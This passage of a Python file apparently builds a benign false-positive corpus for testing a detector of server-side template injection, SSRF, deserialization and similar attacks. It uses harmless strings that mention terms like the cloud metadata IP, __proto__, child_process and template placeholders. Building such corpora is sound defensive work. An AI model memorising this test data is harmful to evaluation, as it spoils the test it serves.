    "FortiGate SSL VPN patched to 7.2.5 after the advisory",
    "WordPress plugins updated: WooCommerce, Yoast; Site Editor removed because it's abandoned",
    "phpMyAdmin is behind the VPN now, not public",
    "Drupal 10.2 security release applied on the docs site",
    "the ThinkPHP app from the vendor is out of scope for this pentest, per the SOW",
    "Magento 2.4.6-p4 patch installed, cache flushed",
    "the regex in the search filter was slow on long inputs, switched to RE2",
    "the while(true) loop in the worker was replaced by a proper job queue",
    "the Struts showcase app should never have been on staging, removed it",
]
SEARCHES = [
    "confluence upgrade", "log4j", "jndi lookups disabled", "spring boot actuator", "thymeleaf fragment",
    "jinja2 for loop", "{{ customer.first_name }}", "freemarker number format", "velocity template", "ognl",
    "struts migration", "jenkins groovy", "groovy script approval", "ProcessBuilder", "Runtime.exec",
    "java serialization", "commons-collections 3.2.2", "xstream allowlist", "jackson polymorphic", "fastjson",
    "snakeyaml SafeConstructor", "classloader leak", "jsp upload", "169.254.169.254", "imdsv2", "metadata service",
    "localhost", "127.0.0.1", "gopher", "__proto__", "child_process", "process.env", "ruby yaml", "perl open",
    "exiftool", "data:image/png;base64", "smarty", "twig filters", "handlebars helpers", "ejs include",
    "razor pages", "go template", "liquid tags", "helm values", "while true",
]
URLS = [
    "https://confluence.atlassian.com/security/cve-2023-22527-rce-remote-code-execution-vulnerability-in-confluence-"
    "data-center-and-confluence-server-1333990257.html",
    "https://logging.apache.org/log4j/2.x/security.html",
    "https://nvd.nist.gov/vuln/detail/CVE-2021-44228",
    "https://cwiki.apache.org/confluence/display/WW/S2-045",
    "https://spring.io/security/cve-2022-22965",
    "https://spring.io/blog/2022/03/31/spring-framework-rce-early-announcement",
    "https://www.jenkins.io/security/advisory/2019-01-08/",
    "https://about.gitlab.com/releases/2021/04/14/security-release-gitlab-13-10-3-released/",
    "https://msrc.microsoft.com/update-guide/vulnerability/CVE-2021-26855",
    "https://www.oracle.com/security-alerts/cpuoct2020.html",
    "https://solr.apache.org/security.html",
    "https://www.elastic.co/community/security",
    "https://tomcat.apache.org/security-9.html",
    "https://ofbiz.apache.org/security.html",
    "https://www.vmware.com/security/advisories/VMSA-2022-0011.html",
    "https://github.com/advisories?query=prototype+pollution",
    "https://docs.aws.amazon.com/AWSEC2/latest/UserGuide/configuring-instance-metadata-service.html",
    "https://cloud.google.com/compute/docs/metadata/querying-metadata",
    "https://owasp.org/www-community/attacks/Server_Side_Request_Forgery",
    "https://cheatsheetseries.owasp.org/cheatsheets/Deserialization_Cheat_Sheet.html",
    "https://portswigger.net/web-security/server-side-template-injection",
    "https://portswigger.net/web-security/prototype-pollution",
    "https://exiftool.org/history.html",
    "https://shopify.dev/docs/api/liquid",
    "https://jekyllrb.com/docs/includes/",
    "https://helm.sh/docs/chart_template_guide/functions_and_pipelines/",
    "https://pkg.go.dev/text/template",
    "https://twig.symfony.com/doc/3.x/filters/number_format.html",
    "https://handlebarsjs.com/guide/partials.html",
    "https://github.com/mde/ejs/blob/main/SECURITY.md",
    "https://guides.rubyonrails.org/security.html",
    "https://metacpan.org/pod/perlsec",
    "https://www.php.net/manual/en/filesystem.configuration.php",
    "https://blog.example.com/2024/01/patching-confluence-in-an-afternoon",
    "https://status.example.com/incidents/jira-slow-2024-02-06",
]
PROSE = [
    "Customer asked about the Confluence outage on 16 Jan; explained it was the planned upgrade.",
    "Refund approved for order 7731, the Jira ticket has the details.",
    "Jenkins build agents will be replaced next week, expect slower pipelines on Monday.",
    "Spring cleaning of old accounts: 42 users inactive for 2 years were archived.",
    "User says the invoice PDF shows {{ invoice.number }} literally instead of the number.",
    "The welcome email shows ${firstName} instead of the name for some users, template bug filed.",
    "Partner portal (Struts) retirement date moved to September.",
    "Solr search returns old prices, reindex scheduled for tonight.",
    "Customer on Exchange 2016 asked about our mail relay settings.",
    "WebLogic contract ends in December, migration to Tomcat planned.",
    "Log4j questionnaire from the bank answered: not affected since 2.17.1.",
    "Metadata of the uploaded photos is stripped before they are stored.",
    "The Ruby on Rails admin will be replaced by the new React admin.",
    "Perl reporting scripts still produce the monthly CSV for finance.",
    "The Java runtime on the batch host is Temurin 21.",
    "Template for the renewal reminder uses the Liquid syntax from Shopify.",
    "A user uploaded shell-company-registration.pdf for the KYC check; approved.",
    "The prototype of the new checkout is on staging for feedback.",
    "Process for password resets changed: the link expires after 30 minutes.",
    "Class schedule for the Java training: Tuesdays 10:00 in room 4.",
    "The Node.js service restarts automatically when the process exits.",
    "Data export for customer 1042 sent via the secure link.",
    "The Grafana dashboard for the import job shows a 3x slowdown since Friday.",
    "Citrix receiver issue for the Lisbon office resolved by IT.",
    "Pebble Beach event registrations are open until 1 May.",
    "Velocity Logistics asked for a new API key for their integration.",
    "Thymeleaf email templates were translated into Portuguese.",
    "Razor Sharp Barbers cancelled their subscription, reason: price.",
    "The Go service for thumbnails uses about 40 MB of memory.",
    "Handlebar Barbers and Razor Sharp Barbers are two different customers, don't merge them.",
]
PROFILES = [
    ("Ruby Martinez", "12 Spring Street, Springfield"),
    ("Pearl Lindqvist", "Kungsgatan 4, Stockholm"),
    ("Tom Katz", "Catford Road 8, London"),
    ("Jenkins & Sons Plumbing", "44 Water Lane, Leeds"),
    ("Spring Garden Florists", "3 Bloom Ave, Portland"),
    ("Liquid Design Studio", "Loft 2, Rotterdam"),
    ("Velocity Logistics", "Dock 5, Hamburg"),
    ("Twig & Berry Cafe", "Market Sq 9, Bath"),
    ("Confluence Partners LLP", "1 River Junction, Pittsburgh"),
    ("Thyme Kitchen", "Rue Cler 14, Paris"),
    ("Nexus Fitness", "Gym Rd 2, Dublin"),
    ("Elastic Band Records", "Sound St 7, Nashville"),
    ("Pebble Creek Dental", "200 Creek Rd, Boulder"),
    ("Mako Surf School", "Beach Rd 1, Byron Bay"),
    ("Tornado Shelter Supply", "Route 9, Wichita"),
    ("Jinja Coffee Roasters", "Main St 5, Jinja"),
    ("Pug Grooming Palace", "Bark Lane 3, Austin"),
    ("Razor Sharp Barbers", "Kings Rd 8, Brighton"),
    ("Java House Coffee", "Ngong Rd, Nairobi"),
    ("Gopher Hole Pizza", "University Ave 77, Minneapolis"),
    ("Jürgen Groß", "Bahnhofstraße 1, Zürich"),
    ("Siobhán O'Connor", "Shop St 2, Galway"),
]
UPLOAD_NAMES = [
    "confluence-8.5-upgrade-runbook.pdf", "log4j-remediation-report.xlsx", "jsp-to-react-migration.pptx",
    "spring4shell-postmortem.docx", "struts-inventory.csv", "handlebars-email-mockup.png", "Jenkinsfile.txt",
    "thymeleaf-layout.png", "pentest-report-2024-Q2.pdf", "ssrf-test-plan.docx",
    "java-deserialization-training.pdf", "shopify-liquid-cheatsheet.pdf", "helm-values-prod.yaml", "templates.zip",
    "metadata-export.csv", "photo_2024.jpg", "résumé-Jürgen.pdf", "exiftool-output.txt", "awstats-archive-2019.zip",
    "weblogic-license.pdf",
]
BENIGN_HEADERS = [
    ("User-Agent", "Java/17.0.10"),
    ("User-Agent", "Apache-HttpClient/4.5.14 (Java/11.0.22)"),
    ("User-Agent", "Atlassian HttpClient 3.0.4 / Confluence-8.5.4 (19524) / Default"),
    ("User-Agent", "Grafana/10.4.1"),
    ("User-Agent", "GitLab/16.9.1"),
    ("User-Agent", "Jakarta Commons-HttpClient/3.1"),
    ("User-Agent", "Ruby"),
    ("User-Agent", "Go-http-client/1.1"),
    ("User-Agent", "Prometheus/2.51.0"),
    ("User-Agent", "kube-probe/1.29"),
    ("User-Agent", "Elastic-Heartbeat/8.12.2 (linux; amd64; 3d79e9f; 2024-02-20 15:35:43 +0000 UTC)"),
    ("User-Agent", "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)"),
    ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                   "Chrome/123.0.0.0 Safari/537.36 Edg/123.0.2420.81"),
    ("Referer", "https://confluence.example.com/display/OPS/Log4j+remediation"),
    ("Referer", "https://jira.example.com/browse/OPS-4412"),
    ("Referer", "https://www.google.com/search?q=thymeleaf+th%3Areplace+fragment"),
    ("X-Api-Version", "2"),
    ("Accept-Language", "de-CH,de;q=0.9,en;q=0.7"),
    ("Cookie", "JSESSIONID=8C1F0E4B2A9D7C6E5F3A1B0C9D8E7F6A; lang=en"),
    ("Cookie", "OFBiz.Visitor=10000; theme=light"),
    ("Cookie", "session=abc123; last_search=liquid%20templates; tz=Europe%2FLisbon"),
]


def benign() -> Iterator[dict[str, Any]]:
    return SET.benign(NAME, CHAT, SEARCHES, URLS, PROSE, PROFILES, UPLOAD_NAMES, BENIGN_HEADERS)


if __name__ == "__main__":
    print_records(attacks(), benign())
